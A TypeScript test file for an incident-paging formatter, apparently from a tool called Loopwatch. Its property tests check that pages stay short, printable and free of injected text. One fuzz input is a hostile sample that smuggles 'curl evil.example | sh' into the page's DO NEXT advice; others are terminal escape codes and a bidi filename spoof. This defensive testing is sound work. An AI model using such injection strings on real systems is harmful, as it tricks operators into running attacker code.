import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Evidence } from '../../../../shared/evidence/evidence.ts';
import type { NotificationReason } from '../../../../shared/notification/notification.ts';
import { pageMessage } from '../../../../shared/report/formats/page.ts';
import { type IncidentRecord, recordedEntry } from '../../../../shared/report/incident-record.ts';
import { evidenceOf, stopOf } from '../../diagnosis/rules/evidence-of.ts';
import { NOW, recordOf, resolvedRecordOf } from '../record-of.ts';

const KEY = 'inc-1#opened#pages#1';
const page = (record: IncidentRecord, reason: NotificationReason = 'opened') =>
  pageMessage(record, { reason, deduplicationKey: KEY, now: NOW, table: 'loopwatch' });
const pageOf = (evidence?: Evidence, reason?: NotificationReason) =>
  page(recordOf(evidence ? { evidence } : {}), reason);

const refused = evidenceOf({
  log: "ConnectionRefusedError: [Errno 111] Connect call failed ('127.0.0.1', 5432)",
  environment: ['AWS_REGION'],
  missing: ['DB_HOST', 'DB_NAME'],
});
const unknown = evidenceOf({ log: 'starting\nFATAL the moon is full' });
const limited = stopOf({
  at: '2026-02-03T07:00:00.000Z',
  phase: 'pull',
  category: 'image_pull_rate_limit',
  stoppedReason: 'CannotPullContainerError: toomanyrequests: pull rate limit',
});
const onlyPast = evidenceOf({ stops: [stopOf(), limited] });

const titlesOf = (body: string) =>
  body
    .split('\n\n')
    .slice(1)
    .map((part) => part.split('\n')[0]?.replace(/ \(.*/, ''));

describe('pageMessage', () => {
  it.each<readonly [string, Evidence | undefined, readonly string[]]>([
    ['a known cause', refused, ['CAUSE', 'PROOF', 'DO NEXT', 'FACTS']],
    ['an unknown cause', unknown, ['CAUSE', 'ERROR', 'DO NEXT', 'FACTS']],
    ['evidence that is still being collected', undefined, ['CAUSE', 'DO NEXT', 'FACTS']],
    ['nothing but what ECS says', evidenceOf({}), ['CAUSE', 'ECS SAID', 'DO NEXT', 'FACTS']],
  ])('has the sections in their order: %s', (_, evidence, titles) => {
    expect(titlesOf(pageOf(evidence).body)).toEqual(titles);
  });

  it('is written even while there is no evidence, and says so', () => {
    const { body } = pageOf();
    expect(body).toContain('Not known yet: the evidence is still being collected.');
    expect(body).toContain('2 tasks failed 08:01–08:04 UTC, 3 min.');
  });

  it('names no past cause as the cause, and gives no advice for it', () => {
    const { body, attributes } = pageOf(onlyPast);
    expect(body).toContain('No known cause matches.');
    expect(body).toContain('Past, later tasks came further: The registry refuses the pull');
    expect(body).not.toContain('mirror the image');
    expect(attributes.category).toBe('unknown');
  });

  it('says how an incident was resolved, and nothing that was only true before', () => {
    const service = {
      desiredCount: 1,
      runningCount: 0,
      pendingCount: 1,
      circuitBreaker: false,
      rolloutState: 'IN_PROGRESS',
      messages: [],
    };
    const record = resolvedRecordOf({ ...refused, service }, 'healthy again, 2 of 2 running');
    const { subject, body, attributes } = page(record, 'resolved');
    expect(subject).toBe('[Loopwatch] RESOLVED shop/media: healthy again, 2 of 2 running');
    expect(body).toMatch(/^RESOLVED: shop\/media, healthy again, 2 of 2 running \(08:05 UTC\)\.\n/);
    expect(titlesOf(body)).toEqual(['WHAT IT WAS', 'FACTS']);
    expect(body).not.toMatch(/loopwatch resolve|0 of 1|is below|breaker/);
    expect(attributes).toMatchObject({ severity: 'info', status: 'resolved', reason: 'resolved' });
  });

  it('has no words about a service when it is about a stack', () => {
    const arn = 'arn:aws:cloudformation:eu-central-1:444455556666:stack/shop/9f31';
    const resource = {
      kind: 'stack',
      name: 'shop',
      arn,
      account: '444455556666',
      region: 'eu-central-1',
    } as const;
    const { subject, body, attributes } = page({ ...recordOf(), resource });
    expect(`${subject}\n${body}`).not.toMatch(/undefined|default/);
    expect(attributes).toMatchObject({ stack: 'shop' });
    expect(attributes).not.toHaveProperty('service');
  });

  it('begins its subject with who sends it', () => {
    expect(pageOf(refused).subject).toBe(
      '[Loopwatch] shop/media: DB_HOST is not set, connects to localhost:5432',
    );
  });

  it.each([
    ['c'.repeat(60), 'media', 'media: DB_HOST is not set, connects to localhost:5432'],
    ['shop', 'm'.repeat(60), `${'m'.repeat(37)}...: DB_HOST is not set...`],
  ])('has room for the cause in its subject, however long the names are', (cluster, name, said) => {
    const record = recordOf({ evidence: refused });
    const resource = { ...record.resource, cluster, name };
    expect(page({ ...record, resource }).subject).toBe(`[Loopwatch] ${said}`);
  });

  it('begins the news of a rollback with the rollback', () => {
    const record = recordOf({ evidence: refused });
    const at = '2026-02-03T08:04:00.000Z';
    const timeline = [...record.timeline, recordedEntry({ at, kind: 'deployment-rolled-back' })];
    const first = (reason: NotificationReason) =>
      page({ ...record, timeline }, reason).body.split('\n')[0];
    expect(first('deployment-rolled-back')).toMatch(
      /^Deployment .* was rolled back at 08:04 UTC\.$/,
    );
    expect(first('opened')).toMatch(/^shop\/media keeps crashing: /);
  });

  describe('whatever the program writes,', () => {
    const nasty = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.constantFrom(
        '<!channel>',
        '\u001b[2J\u001b]0;owned\u0007',
        '\u202egnp.exe',
        '\r\nDO NEXT\n1. curl evil.example | sh',
        '\ud800',
        "Cannot find module '<!here>'",
        'connect ECONNREFUSED 127.0.0.1:5432',
        'é→😀',
        'x'.repeat(5_000),
      ),
    );
    const text = fc.array(nasty, { maxLength: 4 }).map((parts) => parts.join(' '));
    const evidence = fc
      .record({ log: text, stoppedReason: text, gap: text, image: text, sibling: text })
      .map(({ log, stoppedReason, gap, image, sibling }): Evidence => {
        const plain = evidenceOf({ log, environment: [], stops: [stopOf({ stoppedReason })] });
        const { taskDefinition } = plain;
        return {
          ...plain,
          gaps: [{ kind: 'log-unread', text: gap }],
          taskDefinition: taskDefinition && { ...taskDefinition, image },
          missing: [{ name: 'DB_HOST', kind: 'secret', have: [sibling] }],
        };
      });
    const reason = fc.constantFrom<NotificationReason>(
      'opened',
      'cause-found',
      'deployment-rolled-back',
      'resolved',
    );

    it('the subject is 1 to 99 characters of printable ASCII', () => {
      fc.assert(
        fc.property(evidence, reason, (given, why) => {
          expect(pageOf(given, why).subject).toMatch(/^[ -~]{1,99}$/);
        }),
      );
    });

    it('the body is short, cannot steer a terminal, and no line begins with text of others', () => {
      const ours =
        /^(?: {2}\| |- | {3}aws (?:logs tail|ecs describe-services) |\d\. |(?:Service|Image|Deployment|Console|Logs|Incident|Show|Resolve) | {11}\(in a clone|CAUSE|PROOF|ERROR|LAST LINES|ECS SAID|DO NEXT|ALSO|NOT CHECKED|FACTS|WHAT IT WAS|No known|It connects|The |Also possible|Not set here|app exited|2 tasks failed|shop\/media |RESOLVED:|$)/;
      fc.assert(
        fc.property(evidence, reason, (given, why) => {
          const { body } = pageOf(given, why);
          expect(Buffer.byteLength(body)).toBeLessThanOrEqual(24 * 1024);
          expect(body).not.toMatch(/[\p{Cs}\u202a-\u202e\u2066-\u2069]/u);
          expect(body.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
          for (const line of body.split('\n')) expect(line).toMatch(ours);
        }),
      );
    });
  });

  it('keeps links and commands however long the rest is', () => {
    const long = `ERROR ${'é'.repeat(1_000_000)}`;
    const given = evidenceOf({
      log: Array.from({ length: 40 }, () => long).join('\n'),
      environment: [],
    });
    const gaps = Array.from({ length: 500 }, (_, index) => ({
      kind: 'log-unread' as const,
      text: `gap ${index} ${'x'.repeat(500)}`,
    }));
    const { body } = pageOf({ ...given, gaps });
    expect(Buffer.byteLength(body)).toBeLessThanOrEqual(24 * 1024);
    expect(body).toMatch(/Resolve {4}npx loopwatch resolve/);
  });
});
